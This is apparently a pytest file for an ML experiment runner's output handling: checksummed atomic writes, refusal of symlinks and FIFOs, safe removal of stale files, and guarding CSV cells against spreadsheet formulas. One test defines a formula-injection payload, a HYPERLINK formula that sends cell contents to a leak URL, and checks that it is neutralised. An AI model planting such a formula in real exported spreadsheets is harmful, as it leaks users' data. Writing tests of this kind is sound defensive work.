"""The runner's output files (issue 28, items 1 and 2; issue 32): written atomically with a
checksum, never through a link or into anything but a regular file, never read back (the task
cache serves a re-run); text cells of summary.csv spreadsheet-safe; an earlier run's files
that a run does not write are removed (by its record, outputs.json), never a user's."""

import csv
import hashlib
import json
import os
import subprocess
import sys
import threading

import pytest
from sklearn.tree import DecisionTreeClassifier

from sklearn_fair.cli import main
from sklearn_fair.exceptions import ExperimentConfigError
from sklearn_fair.experiment import run_experiment
from sklearn_fair.experiment._running._outputs import in_layout
from sklearn_fair.experiment._running._resultfile import ResultsFolder, checksum, with_checksum

TOML = """\
[experiment]
output_dir = "out"
progress = false

[data]
dataset = "sklearn:iris"

[protocol]
outer_cv = 3
n_refits = 1
{protocol}

[models.tree]
estimator = "sklearn.tree.DecisionTreeClassifier"
params = {{ random_state = 0 }}
grid = {{ max_depth = [1, 3] }}
"""


@pytest.fixture
def experiment(tmp_path):
    path = tmp_path / "exp.toml"
    path.write_text(TOML.format(protocol=""))
    return path


class CountFits:
    def __init__(self, monkeypatch):
        self.count = 0
        fit = DecisionTreeClassifier.fit

        def counted(tree, *args, **kwargs):
            self.count += 1
            return fit(tree, *args, **kwargs)

        monkeypatch.setattr(DecisionTreeClassifier, "fit", counted)


def forge(path, edit, recompute_checksum):
    document = json.loads(path.read_text())
    edit(document["result"])
    if recompute_checksum:
        document = with_checksum(document)
    path.write_text(json.dumps(document))


def every_score(result, value):
    result["score_mean"] = value
    for fold in result["outer_results"]:
        for key in fold["test_scores_per_metric"]:
            fold["test_scores_per_metric"][key] = [value] * len(fold["test_scores_per_metric"][key])


def _sha256_of_canonical_json(document):
    """The checksum as result files have always carried it, from hashlib and json alone."""
    body = {key: value for key, value in document.items() if key != "checksum"}
    text = json.dumps(body, sort_keys=True, separators=(",", ":"))
    return "sha256:" + hashlib.sha256(text.encode("utf-8")).hexdigest()


def test_result_files_and_cache_entries_share_one_checksum():
    from sklearn_fair.utils import digest

    document = {"result": {"name": "\u00e9t\u00e9 <b>", "scores": [0.5, None]}, "n": 3}
    # one owner: the checksum of a result file is utils.digest of the rest of it, whose
    # bytes are those result files were written with before (non-ASCII text included)
    assert checksum(document) == digest(document) == _sha256_of_canonical_json(document)


def test_every_json_file_carries_a_checksum_of_its_content(experiment):
    run_experiment(experiment)
    out = experiment.parent / "out"
    for path in [out / "models" / "tree.json", out / "reproducibility.json"]:
        document = json.loads(path.read_text())
        assert document["checksum"] == _sha256_of_canonical_json(document)
    assert not [p for p in out.rglob("*") if ".tmp" in p.name]  # no temporary file is left


@pytest.mark.parametrize(
    "edit, recompute_checksum",
    [
        (lambda r: every_score(r, 0.999), False),  # scores edited, the checksum not
        (lambda r: every_score(r, 0.999), True),  # a plausible forgery, checksum and all
        (lambda r: r.pop("outer_results"), True),
    ],
)
def test_an_edited_output_is_never_read_and_is_rewritten(
    experiment, monkeypatch, capsys, edit, recompute_checksum
):
    first = run_experiment(experiment)
    target = experiment.parent / "out" / "models" / "tree.json"
    forge(target, edit, recompute_checksum)
    fits = CountFits(monkeypatch)
    assert main(["run", str(experiment)]) == 0
    assert fits.count == 0  # every fit served by the task cache, not by the edited output
    assert "every fit served by the cache" in capsys.readouterr().out
    rerun = json.loads(target.read_text())
    assert rerun["checksum"] == checksum(rerun)
    assert rerun["result"] == first.results["tree"]
    # and the summary shows the true numbers, not the forged ones
    with open(experiment.parent / "out" / "summary.csv", newline="") as file:
        rows = list(csv.DictReader(file))
    assert float(rows[0]["test_mean"]) == pytest.approx(first.results["tree"]["score_mean"])


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs")
@pytest.mark.parametrize("kind", ["fifo", "directory", "symlink"])
def test_something_other_than_a_file_where_a_result_goes_is_refused(
    experiment, monkeypatch, capsys, tmp_path, kind
):
    models = experiment.parent / "out" / "models"
    models.mkdir(parents=True)
    target = models / "tree.json"
    if kind == "fifo":
        os.mkfifo(target)  # opened for reading, it would block the run for ever
    elif kind == "directory":
        target.mkdir()
    else:
        outside = tmp_path / "elsewhere.json"
        outside.write_text("{}")
        target.symlink_to(outside)
    fits = CountFits(monkeypatch)
    assert main(["run", str(experiment)]) == 2
    err = capsys.readouterr().err
    assert str(target) in err and "not a regular file" in err, err
    assert fits.count == 0  # refused before any fit


SCRIPT = """
import sys
from sklearn_fair.cli import main
sys.exit(main(["run", sys.argv[1]]))
"""


def test_two_runners_on_one_folder_leave_every_file_valid(tmp_path):
    script = tmp_path / "runner.py"
    script.write_text(SCRIPT)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "OMP_NUM_THREADS": "1"}
    for trial in range(3):
        folder = tmp_path / f"trial{trial}"
        folder.mkdir()
        path = folder / "exp.toml"
        path.write_text(TOML.format(protocol=""))
        runners = [
            subprocess.Popen(
                [sys.executable, str(script), str(path)],
                env=env,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
            )
            for _ in range(2)
        ]
        for runner in runners:
            _, err = runner.communicate(timeout=600)
            assert runner.returncode == 0, err.decode()[-2000:]
        out = folder / "out"
        for name in ["models/tree.json", "reproducibility.json"]:
            document = json.loads((out / name).read_text())
            assert document["checksum"] == checksum(document), name
        with open(out / "summary.csv", newline="") as file:
            assert len(list(csv.DictReader(file))) >= 1
        assert (out / "report.html").read_text().rstrip().endswith("</html>")
        assert not [p for p in out.rglob("*") if ".tmp" in p.name]


FORMULA = '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"click")'


def test_summary_cells_never_start_a_formula(tmp_path):
    key = FORMULA.replace('"', '\\"')
    protocol = (
        f'scoring = {{ "{key}" = "accuracy", "+plus" = "balanced_accuracy", '
        f'"-minus" = "f1_macro", "@at" = "recall_macro" }}\nrefit = "{key}"'
    )
    path = tmp_path / "exp.toml"
    path.write_text(TOML.format(protocol=protocol))
    run_experiment(path)
    with open(tmp_path / "out" / "summary.csv", newline="") as file:
        text = file.read()
    # read as a spreadsheet would: quoted cells are text, unquoted ones numbers
    with open(tmp_path / "out" / "summary.csv", newline="") as file:
        rows = list(csv.reader(file, quoting=csv.QUOTE_NONNUMERIC))
    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
    numbers = [cell for row in rows[1:] for cell in row if not isinstance(cell, str)]
    assert not [c for c in texts if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text
    assert "'" + FORMULA in texts  # prefixed with a single quote, the rest kept as text
    assert "\"'=HYPERLINK(" in text  # and quoted
    assert {"'+plus", "'-minus", "'@at"} <= set(texts)
    # numbers stay numbers (negative ones too: test_negative_numbers_stay_numbers; the sign
    # of this run's optimism depends on the data, so it is not asserted here)
    mean, optimism = rows[0].index("test_mean"), rows[0].index("optimism")
    assert all(isinstance(row[mean], float) for row in rows[1:])
    selects = [row for row in rows[1:] if row[rows[0].index("selects")] == "True"]
    assert len(selects) == 1 and isinstance(selects[0][optimism], float)  # the selecting metric's
    assert numbers


def test_negative_numbers_stay_numbers():
    from sklearn_fair.experiment._reading._text import csv_cell

    assert csv_cell(-0.25) == -0.25 and csv_cell(-3) == -3
    assert csv_cell("-0.25") == "'-0.25"  # a text cell: prefixed
    assert csv_cell(None) is None and csv_cell("model") == "model"
    assert csv_cell(True) == "True"  # quoted as text, not written as a bare word


def test_two_names_never_share_a_csv_cell():
    # the formula guard prefixed "-knn" with a quote and left "'-knn" as it was: both were
    # "'-knn" in scores.csv and summary.csv, and a groupby mean mixed the two models' scores
    import csv
    import io

    import pandas as pd

    from sklearn_fair.experiment._reading._text import csv_cell

    names = ["-knn", "'-knn", "''-knn", "=x", "'=x", "knn", "'knn", "@a", "'@a"]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([[csv_cell(name)] for name in names])
    read = pd.read_csv(io.StringIO(buffer.getvalue()), header=None)[0].tolist()
    assert len(set(read)) == len(names), read


def test_runners_that_make_the_same_folder_at_once_both_write(tmp_path):
    # two runners on one results folder both create plots/: the one that comes second finds
    # it made (FileExistsError in a two-runner run of the test above, before)
    errors = []
    for trial in range(40):
        barrier = threading.Barrier(8)

        def write(index, root=tmp_path / str(trial), barrier=barrier):
            barrier.wait()
            try:
                ResultsFolder(root).write_text(("plots", "deep", f"{index}.txt"), "x")
            except Exception as exc:  # noqa: BLE001 - what the test counts
                errors.append(exc)

        threads = [threading.Thread(target=write, args=(i,)) for i in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert errors == []
    assert len(list(tmp_path.glob("*/plots/deep/*.txt"))) == 40 * 8


def test_a_regular_file_where_a_results_folder_goes_is_refused(tmp_path):
    (tmp_path / "plots").write_text("not a folder")
    with pytest.raises(ExperimentConfigError, match="which is a regular file, where a folder"):
        ResultsFolder(tmp_path).write_text(("plots", "a.png"), "x")
    assert (tmp_path / "plots").read_text() == "not a folder"


def _experiment_text(datasets, models, baseline=None):
    """An experiment file: the data sets of sklearn (one as [data], several as [data.NAME]),
    fast models among prior, tree and knn, and a baseline."""
    estimators = {
        "prior": 'estimator = "sklearn.dummy.DummyClassifier"',
        "tree": 'estimator = "sklearn.tree.DecisionTreeClassifier"\ngrid = { max_depth = [1, 3] }',
        "knn": 'estimator = "sklearn.neighbors.KNeighborsClassifier"',
    }
    text = '[experiment]\noutput_dir = "out"\nprogress = false\n'
    text += f'[benchmark]\nbaseline = "{baseline}"\n' if baseline else ""
    if len(datasets) == 1:
        text += f'[data]\ndataset = "sklearn:{datasets[0]}"\n'
    else:
        text += "".join(f'[data.{d}]\ndataset = "sklearn:{d}"\n' for d in datasets)
    text += "[protocol]\nouter_cv = 3\nn_refits = 1\n"
    return text + "".join(f"[models.{m}]\n{estimators[m]}\n" for m in models)


def _files(folder):
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


def _plots(*names):
    return {f"plots/{n}{suffix}" for n in names for suffix in (".png", ".svg")}


TABLES = {"summary.csv", "report.md", "report.html", "reproducibility.json", "table.md"}
TABLES |= {"scores.csv", "budget.csv", "outputs.json"}


@pytest.mark.parametrize(
    "first, second, stale",
    [
        # three models with a baseline, then one without: its models, comparison.csv and the
        # comparison plot are the earlier run's
        (
            (["iris"], ["prior", "tree", "knn"], "prior"),
            (["iris"], ["tree"], None),
            {"models/prior.json", "models/knn.json", "comparison.csv"} | _plots("comparison"),
        ),
        # three models on two data sets, then two on one: every model file (by data set),
        # aggregate.csv, ranks.txt and the critical difference are the earlier run's
        (
            (["iris", "wine"], ["prior", "tree", "knn"], "prior"),
            (["iris"], ["prior", "tree"], "prior"),
            {f"models/{d}/{m}.json" for d in ["iris", "wine"] for m in ["prior", "tree", "knn"]}
            | {"aggregate.csv", "ranks.txt"}
            | _plots("critical_difference"),
        ),
    ],
)
def test_a_run_removes_the_earlier_runs_files_that_it_does_not_write(
    tmp_path, capsys, first, second, stale
):
    path = tmp_path / "exp.toml"
    out = tmp_path / "out"
    path.write_text(_experiment_text(*first))
    written = run_experiment(path).files
    # every file of the run is one the next may remove (a new output kept out of in_layout
    # would be left)
    assert all(in_layout(f.relative_to(out).parts) for f in written if f.name != "outputs.json")
    # the user's own files in the results folder, one a JSON file in models/
    own = {"notes.txt": "mine", "models/README": "mine", "models/mine.json": "{}"}
    own["plots/mine.png"] = "mine"
    for name, text in own.items():
        (out / name).write_text(text)
    assert stale <= _files(out)
    path.write_text(_experiment_text(*second))
    assert main(["run", str(path)]) == 0
    err = capsys.readouterr().err
    files = _files(out)
    assert not stale & files, stale & files  # before, every one was still there
    # what the second run writes, as the guide lists it, the user's files and the cache
    _, models, baseline = second
    written = TABLES | {f"models/{m}.json" for m in models}
    written |= _plots("intervals", "fold_scores", "optimism")
    written |= {"comparison.csv"} if baseline else set()
    written |= _plots("comparison") if len(models) > 1 else set()
    written |= {".outputs.lock"}  # the lock that two runs into the folder take in turn
    assert {f for f in files if not f.startswith("cache/")} == written | set(own)
    assert {f for f in files if f.startswith("cache/")}
    assert {name: (out / name).read_text() for name in own} == own
    assert not (out / "models" / "wine").exists()  # a data set's folder, emptied
    assert "removed files that an earlier run wrote here and this run did not" in err
    assert all(name in err for name in stale), err


def test_an_earlier_output_changed_since_is_left_and_named(tmp_path, capsys):
    path = tmp_path / "exp.toml"
    out = tmp_path / "out"
    path.write_text(_experiment_text(["iris"], ["prior", "tree"]))
    run_experiment(path)
    edited = out / "models" / "prior.json"
    edited.write_text(edited.read_text() + "\n")  # the user's copy now
    (out / "notes.txt").write_text("mine")
    # a record that names the user's file and what lies outside the folder, as its own
    record = json.loads((out / "outputs.json").read_text())
    mine = hashlib.sha256(b"mine").hexdigest()
    (tmp_path / "outside.txt").write_text("mine")
    record["files"].update({"notes.txt": mine, "../outside.txt": mine, "cache/x.json": mine})
    (out / "outputs.json").write_text(json.dumps(with_checksum(record)))
    path.write_text(_experiment_text(["iris"], ["tree"]))
    result = run_experiment(path)
    assert result.removed == [out / "plots" / "comparison.png", out / "plots" / "comparison.svg"]
    assert result.left == [edited] and edited.exists()
    assert (out / "notes.txt").read_text() == (tmp_path / "outside.txt").read_text() == "mine"
    # and every run names it, until it is removed
    assert main(["run", str(path)]) == 0
    err = capsys.readouterr().err
    assert "left files that an earlier run wrote here and this run did not" in err
    assert "models/prior.json" in err and "removed" not in err


@pytest.mark.parametrize(
    "record",
    [
        [],
        "x",
        None,
        {"format": "sklearn-fair-results-folder/1", "files": {"models/a\0.json": "0" * 64}},
    ],
    ids=["list", "string", "null", "no-file-name"],
)
def test_an_unreadable_record_of_the_earlier_run_is_replaced_without_failing(tmp_path, record):
    # a record that is JSON but not the runner's (a list, a string, a name no file can have)
    # raised AttributeError or ValueError after every fit, and again on every later run
    path = tmp_path / "exp.toml"
    out = tmp_path / "out"
    path.write_text(_experiment_text(["iris"], ["prior", "tree"]))
    run_experiment(path)
    (out / "outputs.json").write_text(json.dumps(record))
    result = run_experiment(path)
    assert result.problems == [] and result.removed == [] and result.left == []
    written = json.loads((out / "outputs.json").read_text())["files"]
    assert "models/prior.json" in written and not any("\0" in name for name in written)


def test_a_truncated_record_leaves_and_names_the_files_this_run_did_not_write(tmp_path):
    # the earlier run's prior and ranks were kept without a word (removed [] left []), and
    # the new record did not name them, so no later run did either
    path = tmp_path / "exp.toml"
    out = tmp_path / "out"
    path.write_text(_experiment_text(["iris"], ["prior", "tree"]))
    run_experiment(path)
    record = (out / "outputs.json").read_text()
    (out / "outputs.json").write_text(record[: len(record) // 2])
    path.write_text(_experiment_text(["iris"], ["tree"]))
    result = run_experiment(path)
    stale = out / "models" / "prior.json"
    assert result.removed == [] and stale in result.left and stale.exists()
    assert out / "plots" / "comparison.png" in result.left
    assert not [p for p in result.left if p.name in ("tree.json", "summary.csv")]
    assert stale in run_experiment(path).left  # named again by the next run


@pytest.mark.parametrize("recompute_checksum", [False, True], ids=["edited", "forged"])
def test_a_record_that_names_a_json_file_of_the_users_never_removes_it(
    tmp_path, recompute_checksum
):
    # the record named the user's models/mine.json with its SHA-256 (anyone can compute it):
    # the run removed the file, which the guide says it never does
    path = tmp_path / "exp.toml"
    out = tmp_path / "out"
    path.write_text(_experiment_text(["iris"], ["prior", "tree"]))
    run_experiment(path)
    mine = out / "models" / "mine.json"
    text = '{"format": "sklearn-fair-experiment-model", "my": "notes"}'
    mine.write_text(text)
    record = json.loads((out / "outputs.json").read_text())
    record["files"]["models/mine.json"] = hashlib.sha256(text.encode()).hexdigest()
    if recompute_checksum:
        record = with_checksum(record)
    (out / "outputs.json").write_text(json.dumps(record))
    path.write_text(_experiment_text(["iris"], ["tree"]))
    result = run_experiment(path)
    assert mine.read_text() == text
    assert mine not in result.removed
    if recompute_checksum:
        # a forgery the runner cannot tell: the file is not a result it wrote, so it is
        # left and named, and the earlier run's files (which are) are still removed
        assert result.left == [mine]
        assert out / "models" / "prior.json" in result.removed
    else:
        # a record edited since the run wrote it (its checksum fails) removes nothing: each
        # file it names that this run did not write is left and named, by every run
        stale = {out / "models" / "prior.json", out / "plots" / "comparison.png"}
        stale |= {out / "plots" / "comparison.svg", mine}
        assert result.removed == [] and set(result.left) == stale
        assert all(path.exists() for path in stale)
        assert set(run_experiment(path).left) == stale


def test_an_infinite_number_stays_a_number_of_either_sign_in_a_csv():
    # a perfectly separable data set gives an infinite t statistic: -inf was written as the
    # text "'-inf" (a spreadsheet guard on its minus sign) where inf stayed a number
    pd = pytest.importorskip("pandas")
    import io

    from sklearn_fair.experiment._running._outputs import _csv

    rows = [{"model": "-a", "statistic": float("-inf")}, {"model": "b", "statistic": float("inf")}]
    rows.append({"model": "c", "statistic": float("nan")})
    read = pd.read_csv(io.StringIO(_csv(rows, ["model", "statistic"])))
    assert read["statistic"].dtype == float
    assert read["statistic"].iloc[0] == float("-inf") and read["statistic"].iloc[1] == float("inf")
    assert pd.isna(read["statistic"].iloc[2])
    assert read["model"].tolist() == ["'-a", "b", "c"]  # text keeps its guard
